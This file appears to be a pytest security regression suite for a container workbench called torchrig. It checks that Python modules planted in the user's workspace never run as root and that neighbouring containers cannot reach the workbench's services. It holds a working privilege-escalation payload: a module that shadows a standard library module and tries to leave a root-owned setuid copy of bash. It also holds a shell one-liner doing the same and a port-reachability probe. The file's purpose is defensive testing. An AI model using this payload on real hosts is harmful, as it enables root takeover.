"""Issue 10, findings 1 and 7: nothing the workbench user writes ever runs as root, and no
other container reaches the workbench's services. Black-box, on Docker and Podman.

The attack (finding 1): the image started as root with `WORKDIR /workspace` and ran
`python -m torchrig.workbench.{entrypoint,health}`, so a `json.py` in the workspace ran as
root and made a root-owned setuid bash on the host. Here a module named like EACH standard
library module the root code imports (measured with `python -X importtime` on the image's
own entrypoint and health check, not a hand list) is planted in the workspace, in the home
(the state volume) and in the user's site-packages. Each planted module writes a marker with
its euid (then hands over to the real module, so nothing breaks) and, as any euid, tries to
leave a root-owned setuid copy of bash in the workspace. Then: first start, the health check
several times, a restart, a `torchrig run --fresh` job. Zero markers may come from euid 0
and no root-owned setuid/setgid file may appear on the host.

Finding 7: a second container on the engine's default network must not reach the
workbench's ports, while the 127.0.0.1 publish still works; `down --purge` removes the
network `up` made.
"""

from __future__ import annotations

import json
import os
import re
import stat
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.container.conftest import SecurityFigures
from tests.container.workbench import GID, UID, cpu_spec, give_to_user, torchrig, wait_until

pytestmark = pytest.mark.container

MARKERS = ".t-sec1-markers"
HOOKS = ("sitecustomize", "usercustomize")  # imported by name from sys.path at start
PORTS = {"docker": 18961, "podman": 18962}
DEFAULT_NETWORK = {"docker": "bridge", "podman": "podman"}
HEALTH_RUNS = 4

# The planted module. As whoever imports it: a marker naming its euid, a line on stderr, a
# try at a root-owned setuid bash in the workspace; then the real module takes its place.
PLANTED = f"""\
import os as _os, sys as _sys
_name = __name__
_dir = "/workspace/{MARKERS}"
try:
    _fd = _os.open(f"{{_dir}}/{{_name}}.{{_os.geteuid()}}.{{_os.getpid()}}",
                   _os.O_WRONLY | _os.O_CREAT, 0o644)
    _os.write(_fd, repr(_sys.argv).encode())
    _os.close(_fd)
except OSError:
    pass
print(f"T-SEC1-PLANTED {{_name}} euid={{_os.geteuid()}}", file=_sys.stderr, flush=True)
try:
    _target = f"{{_dir}}/suid-bash.{{_os.geteuid()}}"
    _fd = _os.open(_target, _os.O_WRONLY | _os.O_CREAT | _os.O_EXCL, 0o755)
    with open("/bin/bash", "rb") as _src:
        _os.write(_fd, _src.read())
    _os.close(_fd)
    _os.chown(_target, 0, 0)
    _os.chmod(_target, 0o6755)
except OSError:
    pass
_here = _os.path.dirname(_os.path.abspath(__file__))
_saved = list(_sys.path)
_sys.path[:] = [p for p in _sys.path if _os.path.abspath(p or ".") != _here]
del _sys.modules[_name]
try:
    _real = __import__(_name)
finally:
    _sys.path[:] = _saved
_sys.modules[_name] = _real
"""


@dataclass
class Bench:
    engine: str
    project: Path
    base: list[str]

    @property
    def container(self) -> str:
        return f"torchrig-{self.project.name}"

    def cli(self, verb: str, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
        return torchrig(verb, "--engine", self.engine, *args, cwd=self.project, check=check)

    def run(self, *args: str, timeout: float = 300) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [*self.base, *args], capture_output=True, text=True, timeout=timeout, check=False
        )

    def inspect(self, what: str = "") -> dict[str, object]:
        done = self.run("inspect", what or self.container)
        assert done.returncode == 0, done.stderr
        found = json.loads(done.stdout)[0]
        assert isinstance(found, dict)
        return found

    def as_user(self, *cmd: str) -> subprocess.CompletedProcess[str]:
        return self.run("exec", "--user", f"{UID}:{GID}", self.container, *cmd)


def engine_base(engine: str) -> list[str]:
    runtime = os.environ.get("TORCHRIG_PODMAN_RUNTIME")
    return ["podman", "--runtime", runtime] if engine == "podman" and runtime else [engine]


@pytest.fixture(scope="module", params=["docker", "podman"])
def bench(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Bench]:
    engine = request.param
    # The pid keeps two runs of this file (before and after a fix) from sharing names.
    project = tmp_path_factory.mktemp(f"sec1-{engine}") / f"t-sec1-{engine}-{os.getpid()}"
    project.mkdir()
    (project / "torchrig.toml").write_text(cpu_spec(project.name, jupyter_port=PORTS[engine]))
    give_to_user(project, *project.iterdir())
    markers = project / MARKERS
    markers.mkdir()
    give_to_user(markers)
    # Sticky and writable by all: root inside must be able to leave its marker even where it
    # has no DAC capability left, or a root import would go unseen.
    markers.chmod(0o1777)
    made = Bench(engine=engine, project=project, base=engine_base(engine))
    try:
        yield made
    finally:
        made.cli("down", "--purge", check=False)
        made.run("rm", "--force", f"t-sec1-probe-{project.name}")


def image_of(bench: Bench) -> str:
    config = bench.inspect()["Config"]
    assert isinstance(config, dict)
    return str(config["Image"])


def root_imports(bench: Bench, image: str) -> list[str]:
    """Top-level stdlib modules the root code imports, from `-X importtime` in the image."""
    env = {
        "TORCHRIG_USER": "alice",
        "TORCHRIG_UID": str(UID),
        "TORCHRIG_GID": str(GID),
        "TORCHRIG_SERVICES": "jupyter,ssh",
    }
    names: set[str] = set()
    for module, args in (
        ("torchrig.workbench.entrypoint", ("--", "true")),
        ("torchrig.workbench.health", ()),
    ):
        done = bench.run(
            "run",
            "--rm",
            "--user",
            "0",
            "--workdir",
            "/",
            *[f"--env={k}={v}" for k, v in env.items()],
            "--entrypoint",
            "/opt/venv/bin/python",
            image,
            "-I",
            "-X",
            "importtime",
            "-m",
            module,
            *args,
        )
        found = re.findall(r"^import time:\s+\d+ \|\s+\d+ \|\s+([\w.]+)$", done.stderr, re.M)
        assert found, f"no import times from {module}: {done.stderr[-2000:]}"
        names |= {name.strip().split(".")[0] for name in found}
    stdlib = {n for n in names if n in sys.stdlib_module_names}
    assert {"json", "shlex", "os"} <= stdlib | {"os"}, sorted(stdlib)
    return sorted(stdlib | set(HOOKS))


def plant(folder: Path, names: list[str]) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name in names:
        (folder / f"{name}.py").write_text(PLANTED)


def health_runs(bench: Bench, times: int) -> None:
    """Let the health check run `times` times (Podman without systemd: run it ourselves)."""
    for _ in range(times):
        if bench.engine == "podman":
            bench.run("healthcheck", "run", bench.container, timeout=60)
        else:
            time.sleep(5.5)


def markers(bench: Bench) -> list[tuple[str, int]]:
    """(module, euid) of every planted module that ran, from the files and the logs."""
    found = set()
    for path in (bench.project / MARKERS).iterdir():
        parts = path.name.split(".")
        if len(parts) == 3 and parts[1].isdigit():
            found.add((parts[0], int(parts[1])))
    logs = bench.run("logs", bench.container).stderr + bench.run("logs", bench.container).stdout
    for name, euid in re.findall(r"T-SEC1-PLANTED (\w+) euid=(\d+)", logs):
        found.add((name, int(euid)))
    return sorted(found)


def setuid_root_files(root: Path) -> list[str]:
    bad = []
    for folder, _dirs, files in os.walk(root):
        for name in files:
            path = Path(folder) / name
            st = path.lstat()
            if st.st_uid == 0 and st.st_mode & (stat.S_ISUID | stat.S_ISGID):
                bad.append(str(path))
    return bad


def test_planted_modules_never_run_as_root(bench: Bench, security_figures: SecurityFigures) -> None:
    # The module list comes from the image itself: build it first (up builds it).
    image = json.loads(bench.cli("build", "--json").stdout)["image"]
    names = root_imports(bench, image)
    plant(bench.project, names)
    give_to_user(*bench.project.glob("*.py"))

    bench.cli("up", "--json")  # first start: the entrypoint as root, cwd in the workspace
    health_runs(bench, HEALTH_RUNS)
    home = "/home/alice"
    site = f"{home}/.local/lib/python3.11/site-packages"
    copied = bench.as_user(
        "sh", "-c", f"mkdir -p {site} && cp /workspace/*.py {home}/ && cp /workspace/*.py {site}/"
    )
    assert copied.returncode == 0, copied.stderr
    bench.run("restart", bench.container, timeout=300)  # the entrypoint again, home planted
    wait_until(
        lambda: (
            bench.run("inspect", "--format", "{{.State.Running}}", bench.container).stdout.strip()
            == "true"
        ),
        60,
        "the restarted workbench running",
    )
    health_runs(bench, HEALTH_RUNS)
    bench.cli("run", "--fresh", "--name", "t-sec1-job", "--", "python", "-c", "import json")
    wait_until(
        lambda: (
            (bench.project / ".torchrig" / "jobs" / "t-sec1-job" / "exit.json").exists() or None
        ),
        120,
        "the --fresh job's end",
    )
    # The user, inside, tries it too: a setuid file of their own, and chown to root.
    bench.as_user(
        "sh",
        "-c",
        "cp /bin/bash /workspace/t-sec1-user-bash && chmod 6755 /workspace/t-sec1-user-bash "
        "&& chown 0:0 /workspace/t-sec1-user-bash",
    )

    ran = markers(bench)
    as_root = sorted({name for name, euid in ran if euid == 0})
    total = len(names)
    security_figures.record("planted_module_root_runs", len(as_root), of=total, engine=bench.engine)
    setuid = setuid_root_files(bench.project)
    security_figures.record("setuid_root_files_on_host", len(setuid), engine=bench.engine)
    print(
        f"\n{bench.engine}: planted {total} modules; ran as root: {as_root}; as the user: "
        f"{len({n for n, e in ran if e != 0})}; root setuid files: {setuid}"
    )
    assert as_root == [], f"planted modules that ran as root: {as_root}"
    assert setuid == [], setuid


def test_root_imports_nothing_the_user_can_write(bench: Bench) -> None:
    """/opt/venv, /opt/torchrig and every sys.path entry of `python -I` are root's alone."""
    probe = (
        "import os, sys, json; paths = [p for p in sys.path if p]; "
        "pth = [os.path.join(p, f) for p in paths if os.path.isdir(p) "
        "for f in os.listdir(p) if f.endswith('.pth')]; "
        "print(json.dumps([p for p in paths + pth if os.path.exists(p) and os.access(p, os.W_OK)]))"
    )
    done = bench.as_user("/opt/venv/bin/python", "-I", "-c", probe)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == []
    found = bench.as_user("find", "/opt/venv", "/opt/torchrig", "-writable", "-print", "-quit")
    assert found.returncode == 0 and found.stdout.strip() == "", found.stdout


def test_health_check_runs_as_the_user(bench: Bench) -> None:
    config = bench.inspect()["Config"]
    assert isinstance(config, dict)
    check = json.dumps(config.get("Healthcheck"))
    assert f"--reuid={UID}" in check and " -I " in check, check
    health_runs(bench, 1)
    state = bench.inspect()["State"]
    assert isinstance(state, dict)
    health = state.get("Health") or state.get("Healthcheck") or {}
    assert isinstance(health, dict) and health.get("Status") == "healthy", health


# Run in a container on the engine's default network: counts the targets where sshd (its
# banner) or Jupyter (/api's JSON version) answers. A TCP connect alone proves nothing: this
# CI's network hands every connection to an outside address to a proxy, which accepts it and
# answers HTTP 426. The control, a server in the probe itself, must be seen answering.
REACH_PROBE = """
import http.server, json, socket, struct, sys, threading

def answers(ip, port):
    try:
        with socket.create_connection((ip, port), timeout=3) as conn:
            conn.settimeout(2)
            try:
                first = conn.recv(64)
            except socket.timeout:
                first = b""
            if first.startswith(b"SSH-"):
                return True
            conn.sendall(b"GET /api HTTP/1.0\\r\\nHost: 127.0.0.1\\r\\n\\r\\n")
            reply = first
            while len(reply) < 8192:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                reply += chunk
            return b'"version"' in reply
    except OSError:
        return False

class Api(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = json.dumps({"version": "control"}).encode()
        self.send_response(200)
        self.end_headers()
        self.wfile.write(body)

route = [line.split() for line in open("/proc/net/route").read().splitlines()[1:]]
hex_gateway = next(r[2] for r in route if r[1] == "00000000")
gateway = socket.inet_ntoa(struct.pack("<L", int(hex_gateway, 16)))
reached = 0
for target in sys.argv[1:]:
    ip, port = target.rsplit(":", 1)
    reached += answers(gateway if ip == "gateway" else ip, int(port))
server = http.server.HTTPServer(("127.0.0.1", 0), Api)
threading.Thread(target=server.serve_forever, daemon=True).start()
print(reached, int(answers("127.0.0.1", server.server_port)))
"""


def test_other_containers_cannot_reach_the_services(
    bench: Bench, security_figures: SecurityFigures
) -> None:
    settings = bench.inspect()["NetworkSettings"]
    assert isinstance(settings, dict)
    networks = settings.get("Networks") or {}
    addresses = sorted({n["IPAddress"] for n in networks.values() if n.get("IPAddress")})
    status = json.loads(bench.cli("status", "--json").stdout)
    published = [int(str(a).rsplit(":", 1)[1]) for a in status["ports"].values()]
    # Every way in a neighbour could try: the workbench's bridge addresses (Docker: its own
    # network), the slirp4netns guest address (Podman: no bridge address at all), and the
    # host, its default gateway, at the published ports (bound to 127.0.0.1 only).
    targets = [f"{ip}:{port}" for ip in addresses for port in (8888, 2222, 6006)]
    if bench.engine == "podman":
        assert addresses == [], networks
        targets += [f"10.0.2.100:{port}" for port in (8888, 2222, 6006)]
    targets += [f"gateway:{port}" for port in published]
    probe = REACH_PROBE
    done = bench.run(
        "run",
        "--rm",
        "--name",
        f"t-sec1-probe-{bench.project.name}",
        "--network",
        DEFAULT_NETWORK[bench.engine],
        "--user",
        f"{UID}:{GID}",
        "--entrypoint",
        "/opt/venv/bin/python",
        image_of(bench),
        "-I",
        "-c",
        probe,
        *targets,
    )
    assert done.returncode == 0, done.stderr
    reached, control = (int(word) for word in done.stdout.split())
    assert control == 1, "the probe did not see its own control server answer"
    security_figures.record(
        "ports_reached_from_other_container", reached, of=len(targets), engine=bench.engine
    )
    assert reached == 0, f"a container on {DEFAULT_NETWORK[bench.engine]} reached {targets}"
    # The publish on 127.0.0.1 still answers.
    address = str(status["ports"]["jupyter"])  # "127.0.0.1:PORT"
    assert address.startswith("127.0.0.1:"), status
    with urllib.request.urlopen(f"http://{address}/api", timeout=10) as answer:
        assert answer.status == 200


def test_down_purge_removes_the_network(bench: Bench) -> None:
    networks = bench.inspect()["NetworkSettings"]
    assert isinstance(networks, dict)
    own = [n for n in (networks.get("Networks") or {}) if n != DEFAULT_NETWORK[bench.engine]]
    bench.cli("down", "--purge")
    for name in own:
        assert bench.run("network", "inspect", name).returncode != 0, name
    assert bench.run("volume", "inspect", f"{bench.container}-state").returncode != 0
